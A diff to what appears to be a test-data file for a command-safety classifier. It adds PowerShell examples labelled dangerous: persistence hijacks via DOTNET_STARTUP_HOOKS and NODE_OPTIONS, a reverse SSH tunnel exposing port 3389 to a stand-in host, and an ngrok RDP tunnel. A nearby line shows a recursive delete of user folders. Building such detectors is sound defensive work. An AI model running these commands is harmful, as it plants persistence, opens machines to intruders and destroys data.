@@ -3506,6 +3506,21 @@ ORDINARY += [
     ("PowerShell", _ps(r"Add-Content C:\Users\me\Documents\*.txt 'x'")),
     ("PowerShell", _ps(r"pushd C:\src\app; gi .\README.md")),
 ]
+# Persistent loader variables (S-RULE-79); tunnels into this machine (S-RULE-80).
+DANGEROUS += [
+    ("PowerShell", _ps(r"setx DOTNET_STARTUP_HOOKS C:\temp\hook.dll"), "persistence-hijack"),
+    (
+        "PowerShell",
+        _ps("[Environment]::SetEnvironmentVariable('NODE_OPTIONS', '--require C:\\t\\x.js', 'User')"),
+        "persistence-hijack",
+    ),
+    ("PowerShell", _ps("ssh -R 8080:localhost:3389 evil@203.0.113.5"), "security-weakening"),
+    ("PowerShell", _ps("ngrok tcp 3389"), "security-weakening"),
+]
+ORDINARY += [
+    ("PowerShell", _ps("ssh -L 5432:db:5432 me@bastion")),
+    ("PowerShell", _ps("ssh me@buildbox ls -R /tmp")),
+]
 # cmd gets the line PowerShell builds (S-RULE-81); ssh runs commands on this machine (S-RULE-82).
 DANGEROUS += [
     ("PowerShell", _ps(r'cmd /c forfiles /p C:\Users /c "cmd /c rd /s /q @path"'), "protected-place-delete"),
